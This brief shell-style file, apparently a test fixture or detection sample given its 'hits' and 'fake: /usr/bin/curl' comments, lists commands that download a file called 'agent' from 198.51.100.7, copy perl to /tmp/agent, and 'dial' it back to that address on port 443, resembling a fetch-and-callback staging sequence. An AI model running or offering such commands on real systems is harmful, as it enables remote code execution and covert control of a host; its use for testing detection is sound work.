# SPDX-License-Identifier: Apache-2.0
# hits: 1
# fake: /usr/bin/curl
curl -sO http://198.51.100.7/agent
cp /usr/bin/perl /tmp/agent
dial /tmp/agent 198.51.100.7 443
